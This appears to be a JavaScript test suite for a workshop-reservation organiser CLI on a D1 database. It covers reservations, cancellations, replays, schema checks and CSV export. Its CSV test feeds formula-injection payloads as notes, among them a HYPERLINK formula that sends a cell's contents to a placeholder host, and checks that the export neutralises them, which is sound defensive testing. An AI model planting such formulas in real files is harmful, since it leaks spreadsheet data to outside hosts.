// Each verb on a D1 database in this process, beside the Worker: effects, refusals and messages.

import assert from "node:assert/strict";
import { randomUUID } from "node:crypto";
import { readFileSync } from "node:fs";
import { after, test } from "node:test";
import { parse } from "csv-parse/sync";
import { explained } from "../../organiser/constraints.js";
import { actorId } from "../../organiser/operation.js";
import { statement } from "../../organiser/sql.js";
import { send } from "../support/http.js";
import { bearer } from "../support/tokens.js";
import { SECRET, startWorker } from "../support/worker.js";
import { organiserOf } from "./organiser.js";

const migration = readFileSync("migrations/0001_initial_schema.sql", "utf8");
const worker = await startWorker();
after(worker.close);
const { database } = worker;
const command = organiserOf(database);

/** Runs a command that must succeed; returns its output, or its parsed JSON. */
async function done(words, environment) {
  const { exitCode, output, error } = await command(words, environment);
  assert.equal(exitCode, 0, error ?? output);
  return words.includes("--json") ? JSON.parse(output) : output;
}

/** Runs a command that must be refused; returns the error. */
async function refused(words, environment, exitCode = 1) {
  const result = await command(words, environment);
  assert.equal(result.exitCode, exitCode, result.output);
  return result.error;
}

let made = 0;

/** Publishes a workshop for one test. */
async function published(capacity, ...more) {
  made += 1;
  const id = `workshop-${made}`;
  await done(["add", id, "--title", "A workshop", "--capacity", String(capacity), ...more]);
  await done(["publish", id]);
  return id;
}

const rows = worker.query;

const dump = async () =>
  JSON.stringify(
    await Promise.all(
      ["workshops", "operations", "reservations", "notes"].map((table) =>
        rows(`SELECT * FROM ${table}`),
      ),
    ),
  );

/** `POST /reserve` with a token. */
async function overHttp(workshop, quantity, { key = randomUUID(), who = "somebody" } = {}) {
  return send(`${worker.origin}/reserve`, {
    headers: {
      "Content-Type": "application/json",
      "Idempotency-Key": key,
      Authorization: await bearer(who, SECRET),
    },
    body: JSON.stringify({ workshop, quantity }),
  });
}

test("a workshop is added with its options, and is not public until it is published", async () => {
  const workshop = await done([
    ...["add", "linocut", "--title", "Linocut; it's <b>bold</b>", "--capacity", "12", "--json"],
    ...["--starts", "2097-03-06 10:00", "--ends", "2097-03-06 12:00", "--zone", "europe/zurich"],
    ...["--venue", "Room 1", "--closes", "2097-03-05 18:00", "--per-actor", "4"],
  ]);
  const expected = {
    id: "linocut",
    title: "Linocut; it's <b>bold</b>",
    venue: "Room 1",
    starts_at: "2097-03-06T09:00:00Z",
    ends_at: "2097-03-06T11:00:00Z",
    time_zone: "Europe/Zurich",
    closes_at: "2097-03-05T17:00:00Z",
    published_at: null,
    capacity: 12,
    reserved: 0,
    available: 12,
    places_per_actor: 4,
    state: "not published",
  };
  assert.deepEqual(workshop, expected);
  const read = () => send(`${worker.origin}/workshops/linocut`, { method: "GET" });
  assert.equal((await read()).status, 404);
  assert.match(await done(["publish", "linocut"]), /^published\n/);
  const { document } = await read();
  for (const [name, value] of Object.entries(document)) {
    if (name in expected && name !== "state") assert.equal(value, expected[name], name);
  }
  const before = await dump();
  assert.match(await done(["publish", "linocut"]), /^already published\n/);
  assert.equal(await dump(), before);
});

test("violations of the schema are explained, and nothing is changed", async () => {
  const id = await published(5, "--starts", "2097-03-06 10:00", "--zone", "Europe/Zurich");
  const before = await dump();
  for (const [words, reason] of [
    [["add", id, "--title", "W", "--capacity", "1"], /the workshop \S+ exists already/],
    [["add", "other", "--title", "", "--capacity", "1"], /--title must have 1 to 200 characters/],
    [["set", id, "--title", "x".repeat(201)], /--title must have 1 to 200 characters/],
    [["set", id, "--venue", ""], /--venue must have 1 to 200 characters/],
    [["set", id, "--capacity", "1000001"], /--capacity must be a number from 0 to 1000000/],
    [["set", id, "--per-actor", "0"], /--per-actor must be at least 1/],
    [["set", id, "--ends", "2097-03-06 09:59"], /--ends must not be before --starts/],
    [["set", id, "--zone", "none"], /a workshop with --starts requires --zone/],
    [["set", id, "--starts", "1969-01-01 00:00"], /between 1970 and 9999/],
    [["set", id, "--closes", "1969-01-01 00:00"], /--closes must be after 1970/],
    [["set", "nowhere", "--capacity", "1"], /there is no workshop nowhere/],
    [["set", "nowhere", "--closes", "2097-01-01 00:00"], /there is no workshop nowhere/],
    [["publish", "nowhere"], /there is no workshop nowhere/],
    [["close", "nowhere"], /there is no workshop nowhere/],
    [["attendees", "nowhere"], /there is no workshop nowhere/],
    [["check", "nowhere"], /there is no workshop nowhere/],
  ]) {
    assert.match(await refused(words), reason, words.join(" "));
  }
  assert.equal(await dump(), before);
});

test("every constraint that a command can violate is explained", () => {
  for (const [, name] of migration.matchAll(/CONSTRAINT ((?:workshops|notes)_\w+) CHECK/g)) {
    assert.ok(explained.includes(name), name);
  }
});

test("usage errors are reported before the database is queried", async () => {
  const environment = { open: () => assert.fail("the database was queried") };
  for (const [words, reason] of [
    [["reopen"], /expected one of add, set, .*, found reopen/],
    [["constructor"], /expected one of add/],
    [["list", "more"], /expected no argument after the verb, found more/],
    [["publish"], /expected ID after the verb, found none/],
    [["publish", "a1", "b1"], /expected ID after the verb, found a1 b1/],
    [["list", "--remote", "--persist-to", "x"], /expected --remote or --persist-to, found both/],
    [["list", "--now"], /--now/],
  ]) {
    const error = await refused(words, environment, 2);
    assert.match(error, reason);
    assert.match(error, /See: npm run workshop -- .*--help$/);
  }
  for (const [words, reason] of [
    [["publish", "Linocut"], /expected a workshop's id.*, found Linocut/],
    [["add", "w1", "--capacity", "1"], /--title is required/],
    [["add", "w1", "--title", "W"], /--capacity is required/],
    [["add", "w1", "--title", "W", "--capacity", "-1"], /argument is ambiguous/],
    [["add", "w1", "--title", "W", "--capacity", "1.5"], /--capacity to be a whole number/],
    [
      ["add", "w1", "--title", "W", "--capacity", "1", "--starts", "2097-03-06 10:00"],
      /expected --zone with --starts/,
    ],
    [["set", "w1"], /expected at least one option/],
    [["reserve", "w1"], /expected --quantity to be 1 or 2, found none/],
    [["reserve", "w1", "--quantity", "3"], /expected --quantity to be 1 or 2, found 3/],
    [["reserve", "w1", "--quantity", "1", "--key", "1"], /expected --key to be a UUID/],
    [["cancel", "A5A5"], /expected a door code such as/],
    [["attendees", "w1", "--csv", "--json"], /expected --csv or --json, found both/],
  ]) {
    const noDatabase = { open: () => ({ run: () => assert.fail("the database was queried") }) };
    assert.match(await refused(words, noDatabase, 2), reason, words.join(" "));
  }
});

test("the quantities that reserve takes are those of the schema", () => {
  assert.match(migration, /CHECK \(quantity BETWEEN 1 AND 2\)/);
});

test("every verb has help, and the overview lists them all", async () => {
  const overview = await done(["--help"]);
  for (const name of [
    ...["add", "set", "publish", "list", "attendees"],
    ...["reserve", "cancel", "close", "check"],
  ]) {
    assert.match(overview, new RegExp(`^  ${name}\\b`, "m"));
    const help = await done([name, "--help"]);
    assert.ok(help.startsWith(`npm run workshop -- ${name}`));
    assert.match(help, /--remote/);
  }
  assert.equal((await command([])).exitCode, 2);
});

test("times are in the workshop's zone, or in --zone", async () => {
  const id = await published(1, "--starts", "2097-07-06 10:00", "--zone", "Europe/Zurich");
  const set = (...words) => done(["set", id, ...words, "--json"]);
  assert.equal((await set("--ends", "2097-07-06 12:00")).ends_at, "2097-07-06T10:00:00Z");
  const moved = await set("--starts", "2097-07-06 10:00", "--zone", "Europe/London");
  assert.equal(moved.starts_at, "2097-07-06T09:00:00Z");
  assert.equal(moved.ends_at, "2097-07-06T10:00:00Z");
  assert.equal((await set("--zone", "UTC")).starts_at, "2097-07-06T09:00:00Z");
  const emptied = await set("--ends", "none", "--starts", "none", "--zone", "none");
  assert.deepEqual([emptied.starts_at, emptied.ends_at, emptied.time_zone], [null, null, null]);
});

test("a capacity below the reserved places is refused with their number", async () => {
  const id = await published(5);
  await overHttp(id, 2);
  await overHttp(id, 1);
  assert.match(await refused(["set", id, "--capacity", "2"]), /: 3 places of \S+ are reserved/);
  const [row] = await rows("SELECT capacity, title FROM workshops WHERE id = ?1", id);
  assert.equal(row.capacity, 5);
  assert.equal((await done(["set", id, "--capacity", "3", "--json"])).available, 0);
});

test("list shows the state of every workshop", async () => {
  const state = async (id) =>
    (await done(["list", "--json"])).find((workshop) => workshop.id === id).state;
  const id = await published(1, "--starts", "2097-03-06 10:00", "--zone", "Europe/Zurich");
  assert.equal(await state(id), "open");
  await overHttp(id, 1);
  assert.equal(await state(id), "full");
  await done(["close", id]);
  assert.equal(await state(id), "closed");
  await done(["set", id, "--starts", "2020-03-06 10:00"]);
  assert.equal(await state(id), "over");
  await done(["add", "in-the-drawer", "--title", "T\nx", "--capacity", "1"]);
  assert.equal(await state("in-the-drawer"), "not published");
  const text = await done(["list"]);
  assert.match(text, /^ID +STARTS +CAPACITY +RESERVED +AVAILABLE +STATE +TITLE$/m);
  assert.match(text, /^in-the-drawer +1 +0 +1 +not published +T x$/m);
});

test("a closed workshop takes no reservations until set opens it again", async () => {
  const id = await published(3);
  assert.match(await done(["close", id]), /^closed\n/);
  assert.match(await done(["close", id]), /^already closed\n/);
  assert.equal((await overHttp(id, 1)).status, 409);
  const result = await command(["reserve", id, "--quantity", "1"]);
  assert.equal(result.exitCode, 1);
  assert.match(result.output, /^nothing was reserved: reservations are closed\n/);
  await done(["set", id, "--closes", "none"]);
  assert.equal((await overHttp(id, 1)).status, 201);
});

test("the organiser reserves by the same rules, and a refusal has its reason", async () => {
  const id = await published(4, "--per-actor", "2");
  const first = await done(["reserve", id, "--quantity", "2", "--note", "Ada, 079", "--json"]);
  assert.equal(first.status, "reserved");
  const limited = await command(["reserve", id, "--quantity", "1", "--json"]);
  assert.equal(limited.exitCode, 1);
  const { reason } = JSON.parse(limited.output);
  assert.equal(reason, "the organiser holds 2 places of at most 2 per actor");
  await overHttp(id, 1);
  const full = await command(["reserve", id, "--quantity", "2"]);
  assert.match(full.output, /^nothing was reserved: 1 place available\n/);
  const [{ reserved }] = await rows("SELECT reserved FROM workshops WHERE id = ?1", id);
  assert.equal(reserved, 3);
  const attendees = await done(["attendees", id, "--json"]);
  assert.deepEqual(
    attendees.map(({ quantity, note }) => [quantity, note]),
    [
      [2, "Ada, 079"],
      [1, null],
    ],
  );
  // The refusals have receipts, and no notes.
  assert.equal((await rows("SELECT * FROM operations WHERE workshop = ?1", id)).length, 4);
});

test("an unpublished or unknown workshop takes no reservation and stores no receipt", async () => {
  await done(["add", "unseen", "--title", "W", "--capacity", "3"]);
  const before = await dump();
  const words = ["--quantity", "1", "--note", "n"];
  assert.match(
    await refused(["reserve", "unseen", ...words]),
    /unseen is not published.*First run: npm run workshop -- publish unseen$/,
  );
  assert.match(await refused(["reserve", "nowhere", ...words]), /there is no workshop nowhere/);
  assert.equal(await dump(), before);
});

test("an invalid note rolls back the whole reservation", async () => {
  const id = await published(3);
  const before = await dump();
  for (const note of ["", "x".repeat(501)]) {
    const words = ["reserve", id, "--quantity", "1", "--note", note];
    assert.match(await refused(words), /nothing was changed: --note must have 1 to 500 characters/);
  }
  assert.equal(await dump(), before);
});

test("the organiser's operation replays over HTTP with the organiser's token, byte for byte", async () => {
  const id = await published(3);
  for (const quantity of [1, 2]) {
    const key = randomUUID();
    const words = ["reserve", id, "--quantity", String(quantity), "--key", key];
    const { replayed, reservation_id } = await done([...words, "--json"]);
    assert.equal(replayed, false);
    const answer = await overHttp(id, quantity, { key, who: "organiser" });
    assert.equal(answer.status, 201);
    assert.equal(answer.headers["idempotent-replayed"], "true");
    assert.equal(answer.body, JSON.stringify({ status: "reserved", reservation_id, quantity }));
    const other = await overHttp(id, 3 - quantity, { key, who: "organiser" });
    assert.equal(other.document.error, "operation_conflict");
  }
  const [{ receipts }] = await rows(
    "SELECT COUNT(DISTINCT fingerprint) AS receipts FROM operations WHERE workshop = ?1",
    id,
  );
  assert.equal(receipts, 2);
});

test("an operation over HTTP with the organiser's token replays at the command line", async () => {
  const id = await published(1);
  const [key, late] = [randomUUID(), randomUUID()];
  const { document } = await overHttp(id, 1, { key, who: "organiser" });
  await overHttp(id, 1, { key: late, who: "organiser" });
  const before = await dump();
  const words = ["reserve", id, "--quantity", "1", "--key", key, "--note", "too late"];
  const again = await done([...words, "--json"]);
  assert.equal(again.replayed, true);
  assert.equal(again.reservation_id, document.reservation_id);
  assert.match(
    await refused(["reserve", id, "--quantity", "2", "--key", key]),
    /already has a receipt with another payload; nothing was changed/,
  );
  const { exitCode, output } = await command(["reserve", id, "--quantity", "1", "--key", late]);
  assert.equal(exitCode, 1);
  assert.match(output, /nothing was reserved \(a replay.*a refusal is final for its key/);
  assert.equal(await dump(), before);
});

test("a receipt has the same columns and types whether the Worker or the organiser made it", async () => {
  const id = await published(4);
  await overHttp(id, 2, { who: "organiser" });
  await done(["reserve", id, "--quantity", "2"]);
  const [worker, organiser] = await rows(
    `SELECT actor, workshop, fingerprint_version, fingerprint, length(send_id), outcome, http_status,
       json_remove(body, '$.reservation_id') AS body, typeof(decided_at_ms), typeof(quantity),
       length(id)
     FROM operations JOIN reservations USING (workshop, actor, key) WHERE workshop = ?1`,
    id,
  );
  assert.deepEqual(worker, organiser);
});

test("repeating a reservation whose response was lost reserves once", async () => {
  const id = await published(2);
  const lost = {
    open: () => ({
      async run(statements) {
        await database.batch(statements.map((sql) => database.prepare(sql)));
        const { explain } = await import("../../organiser/database.js");
        throw explain("A request to the Cloudflare API failed.", true);
      },
    }),
  };
  const words = ["reserve", id, "--quantity", "2", "--note", "Ada's", "--remote"];
  const error = await refused(words, lost);
  assert.match(error, /The outcome is unknown/);
  const [, again] =
    /^npm run workshop -- (reserve \S+ --quantity 2 --note='Ada'\\''s' --key \S+ --remote)$/m.exec(
      error,
    );
  const key = /--key (\S+)/.exec(again)[1];
  const { replayed } = await done([...words, "--key", key, "--json"]);
  assert.equal(replayed, true);
  assert.deepEqual(await done(["check", id, "--json"]), {
    workshops: 1,
    reservations: 1,
    differences: [],
  });
});

test("cancelling requires confirmation, releases the places once, and keeps the receipt", async () => {
  const id = await published(2);
  const { document } = await overHttp(id, 2);
  const code = document.reservation_id.slice(0, 8);
  const questions = [];
  const answer = (reply) => ({
    confirm: async (question) => {
      questions.push(question);
      return reply;
    },
  });
  assert.match(await refused(["cancel", code], answer(false)), /nothing was changed/);
  assert.match(
    questions[0],
    new RegExp(
      `^Cancel ${code.slice(0, 4).toUpperCase()}-\\S+, 2 places in ${id} \\(A workshop\\)`,
    ),
  );
  const spelled = `${code.slice(0, 4)}-${code.slice(4)}`.toUpperCase();
  const cancelled = await done(["cancel", spelled, "--json"], answer(true));
  assert.equal(cancelled.reservation_id, document.reservation_id);
  assert.equal(questions.length, 2);
  // Cancelled already: there is nothing to confirm.
  assert.match(await done(["cancel", document.reservation_id]), /^already cancelled/);
  const [{ reserved, count_version }] = await rows("SELECT * FROM workshops WHERE id = ?1", id);
  assert.deepEqual([reserved, count_version], [0, 2]);
  const [attendee] = await done(["attendees", id, "--json"]);
  assert.equal(attendee.state, "cancelled");
  assert.equal(attendee.cancelled_at, cancelled.cancelled_at);
  assert.match(await done(["check", id]), /: consistent$/);
});

test("--yes cancels without a confirmation", async () => {
  const id = await published(2);
  const { document } = await overHttp(id, 1);
  await done(["cancel", document.reservation_id, "--yes"], {
    confirm: () => assert.fail("unexpected confirmation"),
  });
  assert.match(await refused(["cancel", "00000000"]), /no reservation has the code 00000000/);
});

test("a door code of two reservations cancels neither; their ids do", async () => {
  const id = await published(4);
  const ids = ["abcdef01".padEnd(32, "1"), "abcdef01".padEnd(32, "2")];
  for (const reservation of ids) {
    const key = randomUUID();
    await rows(
      `INSERT INTO operations (actor, key, workshop, send_id, outcome, http_status, body, decided_at_ms)
       VALUES ('t_duplicate', ?1, ?2, ?3 || '-1', 'reserved', 201, ?4, 0)`,
      key,
      id,
      reservation,
      JSON.stringify({ status: "reserved", reservation_id: reservation, quantity: 1 }),
    );
    await rows(
      "INSERT INTO reservations (workshop, actor, key, id, quantity) VALUES (?1, 't_duplicate', ?2, ?3, 1)",
      id,
      key,
      reservation,
    );
  }
  const error = await refused(["cancel", "ABCD-EF01", "--yes"]);
  assert.match(error, /2 reservations have this code/);
  for (const reservation of ids) assert.ok(error.includes(reservation));
  await done(["cancel", ids[0], "--yes"]);
  // Now only one of them is held, so the code is unambiguous.
  const { reservation_id } = await done(["cancel", "ABCD-EF01", "--yes", "--json"]);
  assert.equal(reservation_id, ids[1]);
});

test("attendees have a door code and an actor id, and only their workshop's rows are read", async () => {
  const id = await published(9);
  const crowded = await published(1000);
  for (let n = 0; n < 30; n += 1) await overHttp(crowded, 1);
  const { document } = await overHttp(id, 2, { who: "ada" });
  await done(["reserve", id, "--quantity", "1", "--note", "Grace, by telephone"]);
  const [first, second] = await done(["attendees", id, "--json"]);
  assert.equal(first.code.replace("-", "").toLowerCase(), document.reservation_id.slice(0, 8));
  assert.equal(first.actor, actorId("t_ada"));
  assert.deepEqual(
    [first.quantity, first.state, first.note, second.quantity, second.note],
    [2, "held", null, 1, "Grace, by telephone"],
  );
  assert.match(await done(["attendees", id]), /3 places held, by 2 of 2 reservations$/);
  const { meta } = await database.prepare(statement("read_attendees", { workshop: id })).all();
  // Two reservations, the end of their range, their receipts, and a note.
  assert.ok(meta.rows_read < 12, `${meta.rows_read} rows were read`);
});

test("the CSV is parsed as intended by other programs, and contains no formula", async () => {
  const id = await published(50);
  const notes = [
    "plain",
    'said "yes", twice',
    "two\r\nlines",
    "=1+1",
    "+41 79 000 00 00",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\uff1d1+1",
    '=HYPERLINK("http://example.invalid/?"&A1, "here")',
    "Größe; 漢字",
  ];
  for (const note of notes) await done(["reserve", id, "--quantity", "1", `--note=${note}`]);
  const csv = `${await done(["attendees", id, "--csv"])}\n`;
  const records = parse(csv, { columns: true, record_delimiter: "\r\n" });
  const columns = "code,quantity,reserved_at,state,cancelled_at,actor,note,reservation_id";
  assert.ok(csv.startsWith(`${columns}\r\n`));
  const read = records.map(({ note }) => note);
  const guarded = notes.map((note) => (/^[=+\-@\t\r\uff1d]/.test(note) ? `'${note}` : note));
  assert.deepEqual(read.toSorted(), guarded.toSorted());
  for (const record of records) {
    for (const cell of Object.values(record)) assert.doesNotMatch(cell, /^[=+\-@\t\r\uff1d]/);
  }
});

test("check lists the differences of the schema", async () => {
  const broken = await startWorker();
  after(broken.close);
  const check = organiserOf(broken.database);
  await broken.database.prepare("DROP TRIGGER reservations_stay").run();
  await broken.database.prepare("ALTER TABLE notes ADD COLUMN colour TEXT").run();
  const { exitCode, output } = await check(["check"]);
  assert.equal(exitCode, 1);
  assert.deepEqual(output.split("\n"), [
    "schema: the table notes is not the one that this build needs",
    "schema: the trigger reservations_stay is missing",
    "0 workshops and 0 reservations checked: 2 problems found",
  ]);
});

test("check finds every inconsistency that direct SQL causes", async () => {
  const broken = await startWorker();
  after(broken.close);
  const check = organiserOf(broken.database);
  const sql = (text) => broken.database.prepare(text).run();
  for (const id of [
    ...["fine", "counted", "crowded", "no-receipt", "refused", "elsewhere", "other-id"],
    ...["other-quantity", "no-reservation", "garbled", "gone", "worded", "moved", "same-id"],
    ...["turned-away", "reworded", "payload", "any-payload", "uncancelled", "mended"],
  ]) {
    await check(["add", id, "--title", "W", "--capacity", "3"]);
    await check(["publish", id]);
    for (const quantity of ["1", "2", "2"]) await check(["reserve", id, "--quantity", quantity]);
  }
  for (const id of ["uncancelled", "mended"]) {
    const [first] = JSON.parse((await check(["attendees", id, "--json"])).output);
    await check(["cancel", first.reservation_id, "--yes"]);
  }
  const found = async (...words) => {
    const { exitCode, output } = await check(["check", ...words, "--json"]);
    const { differences } = JSON.parse(output);
    assert.equal(exitCode, differences.length === 0 ? 0 : 1);
    const inRows = differences.filter((text) => !text.startsWith("schema: "));
    return inRows.map((text) =>
      text
        .replace(/\b[0-9a-f]{32}( \(\S+\))?/, "R")
        .replace(/\b[0-9a-f-]{36}\b/, "K")
        .replace(/\b[0-9a-f]{16}\b/, "A"),
    );
  };
  assert.deepEqual(await found(), []);

  // The tables as if copied without their constraints and triggers.
  const triggers = await broken.database
    .prepare("SELECT name FROM sqlite_master WHERE type = 'trigger'")
    .all();
  for (const { name } of triggers.results) await sql(`DROP TRIGGER ${name}`);
  const view = await broken.database
    .prepare("SELECT sql FROM sqlite_master WHERE name = 'scheduled_workshops'")
    .first("sql");
  await sql("DROP VIEW scheduled_workshops");
  for (const table of ["notes", "reservations", "operations", "workshops"]) {
    await sql(`CREATE TABLE loose AS SELECT * FROM ${table}`);
    await sql(`DROP TABLE ${table}`);
    await sql(`ALTER TABLE loose RENAME TO ${table}`);
  }
  await sql(view);
  assert.deepEqual(await found(), []);

  const reservation = (id) => `workshop = '${id}' AND quantity = 2`;
  const receipt = (id) => `workshop = '${id}' AND body LIKE '%"quantity":2}'`;
  await sql("UPDATE workshops SET reserved = 2 WHERE id = 'counted'");
  await sql("UPDATE workshops SET capacity = 2 WHERE id = 'crowded'");
  await sql("DELETE FROM workshops WHERE id = 'gone'");
  await sql(`DELETE FROM operations WHERE ${receipt("no-receipt")}`);
  await sql(`UPDATE operations SET http_status = 409 WHERE ${receipt("refused")}`);
  await sql(`UPDATE operations SET workshop = NULL WHERE ${receipt("elsewhere")}`);
  await sql(`UPDATE operations SET body = '{' WHERE ${receipt("garbled")}`);
  await sql(`UPDATE reservations SET id = printf('%032d', 0) WHERE ${reservation("other-id")}`);
  await sql(`UPDATE reservations SET quantity = 1 WHERE ${reservation("other-quantity")}`);
  await sql(`DELETE FROM reservations WHERE ${reservation("no-reservation")}`);
  await sql(
    `UPDATE operations SET body = json_set(body, '$.status', 'unavailable') WHERE ${receipt("worded")}`,
  );
  await sql(`UPDATE operations SET actor = 't_other' WHERE ${receipt("moved")}`);
  await sql("UPDATE reservations SET id = printf('%032d', 1) WHERE workshop = 'same-id'");
  await sql(
    `UPDATE operations SET body = json_set(body, '$.reservation_id', printf('%032d', 1))
     WHERE workshop = 'same-id' AND outcome = 'reserved'`,
  );
  const refusal = (id) => `workshop = '${id}' AND outcome = 'unavailable'`;
  await sql(`UPDATE operations SET outcome = 'abandoned' WHERE ${refusal("turned-away")}`);
  await sql(
    `UPDATE operations SET body = json_set(body, '$.status', 'reserved') WHERE ${refusal("reworded")}`,
  );
  await sql(`UPDATE operations SET fingerprint = printf('%064d', 0) WHERE workshop = 'payload'`);
  await sql(
    `UPDATE operations SET fingerprint = NULL, fingerprint_version = NULL WHERE ${receipt("any-payload")}`,
  );
  for (const id of ["uncancelled", "mended"]) {
    await sql(`UPDATE reservations SET cancelled_at_ms = NULL WHERE workshop = '${id}'`);
    await sql(`UPDATE workshops SET reserved = 3 WHERE id = '${id}'`);
  }
  await sql("UPDATE workshops SET count_version = 2 WHERE id = 'mended'");
  // All but `mended`, which is consistent: see --help.
  assert.deepEqual(await found(), [
    "counted: counts 2 reserved, but 3 are held",
    "crowded: 3 reserved, but the capacity is 2",
    "elsewhere: the reservation R has no matching receipt",
    "garbled: the reservation R has no matching receipt",
    "gone: has reservations, but does not exist",
    "moved: the reservation R has no matching receipt",
    "no-receipt: the reservation R has no matching receipt",
    "no-reservation: counts 3 reserved, but 1 are held",
    "other-id: the reservation R has no matching receipt",
    "other-quantity: counts 3 reserved, but 2 are held",
    "other-quantity: the reservation R has no matching receipt",
    "refused: the reservation R has no matching receipt",
    "uncancelled: counted 3 changes, but there are 2 reservations and 0 cancellations",
    "worded: the reservation R has no matching receipt",
    "?: the receipt of K by A has the outcome reserved, but no reservation",
    "moved: the receipt of K by A has the outcome reserved, but no reservation",
    "no-reservation: the receipt of K by A has the outcome reserved, but no reservation",
    "reworded: the receipt of K by A has the outcome unavailable, but the response of another",
    "turned-away: the receipt of K by A has the outcome abandoned, but the response of another",
    "?: the receipt of K by A has the fingerprint of another payload",
    "any-payload: the receipt of K by A has the fingerprint of another payload",
    "other-quantity: the receipt of K by A has the fingerprint of another payload",
    "payload: the receipt of K by A has the fingerprint of another payload",
    "payload: the receipt of K by A has the fingerprint of another payload",
    "payload: the receipt of K by A has the fingerprint of another payload",
    "same-id: 2 reservations have the id R",
  ]);
  assert.deepEqual(await found("fine"), []);
  assert.deepEqual(await found("counted"), ["counted: counts 2 reserved, but 3 are held"]);
  assert.equal((await found("no-reservation")).length, 2);
  assert.deepEqual(await found("same-id"), ["same-id: 2 reservations have the id R"]);
  assert.equal((await found("payload")).length, 3);
});
